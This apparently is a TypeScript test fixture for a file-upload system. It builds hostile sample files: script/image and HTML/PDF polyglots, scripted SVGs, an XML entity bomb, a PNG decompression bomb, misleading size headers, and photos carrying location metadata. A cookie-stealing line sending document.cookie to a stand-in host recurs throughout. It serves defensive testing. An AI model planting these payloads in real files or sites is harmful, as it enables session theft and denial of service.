/** Files that are not what they say, hold more than they show, or grow when they are decoded. */
import { joinedBytes } from '../../../src/storage/joined-bytes.ts';
import { JPEG, PDF, PNG, textBytes, WEBP } from './sample-files.ts';

export type Bytes = Uint8Array<ArrayBuffer>;

export const SCRIPT = 'fetch("//evil.example/"+document.cookie)';
/** A place in text, as XMP, IPTC and PNG have it. Numbers of EXIF are found by `EXIF_PLACE`. */
export const PLACE = 'Rue du Secret 7';
/** Latitude 48 degrees, 51 minutes, 29.93 seconds, as rationals of EXIF. */
export const EXIF_PLACE = uint32s([48, 1, 51, 1, 2993, 100], true);
/** Behind a signature that one may look for: this is the beginning of a local file in a ZIP. */
export const ZIP_START = 'PK\u0003\u0004';

/** A browser may run it as a script: `GIF89a` is a name, and the rest of the header a comment. */
export const GIF_AND_SCRIPT = textBytes(`GIF89a/*${'\0'.repeat(30)}*/=1;${SCRIPT}`);
export const HTML = textBytes(`<!DOCTYPE html><script>${SCRIPT}</script>`);
/** A PDF reader takes both: a header may come late, and the lines before the first object mean nothing. */
export const HTML_THEN_PDF = joined(textBytes(`<html><script>${SCRIPT}</script><!--\n`), PDF);
export const PDF_WITH_HTML = joined(
  textBytes(`%PDF-1.4\n%<html><script>${SCRIPT}</script>\n`),
  PDF.subarray(9),
);
export const SCRIPTED_SVG = textBytes(
  `<svg xmlns="http://www.w3.org/2000/svg" onload='${SCRIPT}'><script>${SCRIPT}</script></svg>`,
);
/** Each entity is ten of the one before it. */
export const ENTITY_BOMB = textBytes(
  '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>' +
    '<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
);
export const HTML_WITH_SVG = textBytes(`<html><svg xmlns="http://www.w3.org/2000/svg"/></html>`);
export const XML = textBytes('<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"/>');
export const STYLED_SVG = joined(
  textBytes('<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?>'),
  SCRIPTED_SVG,
);

/** A ZIP is read from its end, a script may be cut out of any place. */
export const withTail = (picture: Bytes): Bytes =>
  joined(picture, textBytes(`${ZIP_START}${SCRIPT}<script>${SCRIPT}</script>`));

/** A photo by a phone: turned by EXIF, with its place in EXIF, XMP, IPTC and a comment. */
export const photo = (orientation = 6): Bytes =>
  joined(
    JPEG.subarray(0, 2),
    jpegSegment(0xe1, textBytes('Exif\0\0'), exif(orientation)),
    jpegSegment(
      0xe1,
      textBytes(`http://ns.adobe.com/xap/1.0/\0<x:xmpmeta xmlns:x="adobe:ns:meta/">${PLACE}</x:xmpmeta>`),
    ),
    jpegSegment(0xed, textBytes(`Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x14\x1c\x02\x5a\0\x0f${PLACE}`)),
    jpegSegment(0xfe, textBytes(`${PLACE} ${SCRIPT}`)),
    JPEG.subarray(2),
  );

/** The place in EXIF and in text. */
export const placedPng = (): Bytes =>
  joined(
    PNG.subarray(0, 33),
    pngChunk('eXIf', exif(1)),
    pngChunk('tEXt', textBytes(`Location\0${PLACE}`)),
    pngChunk('iTXt', textBytes(`XML:com.adobe.xmp\0\0\0\0\0${PLACE}`)),
    PNG.subarray(33),
  );

/** An extended file with the place in EXIF and XMP. */
export const placedWebp = (): Bytes =>
  webp(
    webpChunk('VP8X', Uint8Array.of(0x0c, 0, 0, 0, 23, 0, 0, 11, 0, 0)),
    WEBP.subarray(12),
    webpChunk('EXIF', exif(6)),
    webpChunk('XMP ', textBytes(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${PLACE}</x:xmpmeta>`)),
  );

/** A PNG whose header promises this size; the rest of it is a small picture's. */
export const pngOfSize = (width: number, height: number): Bytes =>
  joined(
    PNG.subarray(0, 8),
    pngChunk('IHDR', joined(uint32s([width, height]), Uint8Array.of(8, 2, 0, 0, 0))),
    PNG.subarray(33),
  );

export const jpegOfSize = (width: number, height: number): Bytes => {
  const bytes = new Uint8Array(JPEG);
  const frame = bytes.findIndex((byte, at) => byte === 0xff && bytes[at + 1] === 0xc0);
  new DataView(bytes.buffer).setUint16(frame + 5, height);
  new DataView(bytes.buffer).setUint16(frame + 7, width);
  return bytes;
};

export const webpOfSize = (width: number, height: number): Bytes => {
  const uint24 = (value: number) => uint32s([value], true).subarray(0, 3);
  return webp(
    webpChunk('VP8X', joined(new Uint8Array(4), uint24(width - 1), uint24(height - 1))),
    WEBP.subarray(12),
  );
};

/** Black, one bit a pixel, a thousand times smaller than its pixels: all of it is there, and is well-formed. */
export async function pngBomb(side: number): Promise<Bytes> {
  const row = new Uint8Array(1 + side / 8);
  const rows = new ReadableStream<Bytes>({
    start(controller) {
      for (let at = 0; at < side; at += 1) controller.enqueue(row);
      controller.close();
    },
  });
  const deflated = await new Response(rows.pipeThrough(new CompressionStream('deflate'))).arrayBuffer();
  return joined(
    PNG.subarray(0, 8),
    pngChunk('IHDR', joined(uint32s([side, side]), Uint8Array.of(1, 0, 0, 0, 0))),
    pngChunk('IDAT', new Uint8Array(deflated)),
    pngChunk('IEND', new Uint8Array()),
  );
}

function joined(...pieces: Uint8Array[]): Bytes {
  return joinedBytes(pieces);
}

/** True if the bytes, read as Latin-1, have the text. */
export const hasText = (bytes: Uint8Array, text: string): boolean =>
  latin1(bytes).includes(latin1(textBytes(text)));

export const hasBytes = (bytes: Uint8Array, part: Uint8Array): boolean =>
  latin1(bytes).includes(latin1(part));

const latin1 = (bytes: Uint8Array) => Array.from(bytes, (byte) => String.fromCharCode(byte)).join('');

/** TIFF, little-endian: the orientation, and the latitude in a directory of GPS (Exif 2.32, section 4.6.6). */
function exif(orientation: number): Bytes {
  const entry = (tag: number, type: number, count: number, value: number) =>
    joined(uint16s([tag, type]), uint32s([count, value], true));
  return joined(
    textBytes('II'),
    uint16s([42]),
    uint32s([8], true),
    uint16s([2]),
    entry(0x0112, 3, 1, orientation),
    entry(0x8825, 4, 1, 38),
    uint32s([0], true),
    uint16s([2]),
    entry(1, 2, 2, 'N'.charCodeAt(0)),
    entry(2, 5, 3, 68),
    uint32s([0], true),
    EXIF_PLACE,
  );
}

export function jpegSegment(marker: number, ...content: Uint8Array[]): Bytes {
  const bytes = joined(...content);
  const length = bytes.byteLength + 2;
  return joined(Uint8Array.of(0xff, marker, length >> 8, length & 0xff), bytes);
}

export function pngChunk(name: string, content: Uint8Array): Bytes {
  const named = joined(textBytes(name), content);
  return joined(uint32s([content.byteLength]), named, uint32s([crc32(named)]));
}

export function webpChunk(name: string, content: Uint8Array): Bytes {
  const padding = new Uint8Array(content.byteLength % 2);
  return joined(textBytes(name), uint32s([content.byteLength], true), content, padding);
}

function webp(...chunks: Uint8Array[]): Bytes {
  const content = joined(textBytes('WEBP'), ...chunks);
  return joined(textBytes('RIFF'), uint32s([content.byteLength], true), content);
}

function uint16s(values: number[]): Bytes {
  return new Uint8Array(values.flatMap((value) => [value & 0xff, value >> 8]));
}

function uint32s(values: number[], isLittleEndian = false): Bytes {
  const bytes = new Uint8Array(4 * values.length);
  const view = new DataView(bytes.buffer);
  for (const [at, value] of values.entries()) view.setUint32(4 * at, value, isLittleEndian);
  return bytes;
}

/** Of PNG (ISO 3309). */
function crc32(bytes: Uint8Array): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}
